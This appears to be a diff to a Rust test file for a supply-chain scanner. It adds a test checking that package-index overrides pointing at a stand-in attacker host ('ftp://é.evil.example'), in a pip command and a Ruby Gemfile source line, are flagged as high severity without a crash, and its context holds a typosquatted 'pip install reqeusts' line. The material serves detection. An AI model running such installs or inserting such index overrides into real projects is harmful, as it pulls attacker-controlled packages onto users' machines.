@@ -47,3 +47,10 @@ fn a_warning_on_the_line_before_runs_on_into_the_command() {
     // is not read as a lead-in.
     assert_severity("`pip install reqeusts` is a typosquat; never run it\n", "supply.typosquat", High);
 }
+
+#[test]
+fn a_source_url_with_a_multibyte_host_is_scanned_without_a_panic() {
+    // The scheme test sliced the URL's first seven bytes, inside `é`.
+    assert_severity("pip install -i ftp://é.evil.example/simple acme\n", "supply.index-override", High);
+    assert_severity("```ruby\nsource \"ftp://é.evil.example\"\n```\n", "supply.index-override", High);
+}
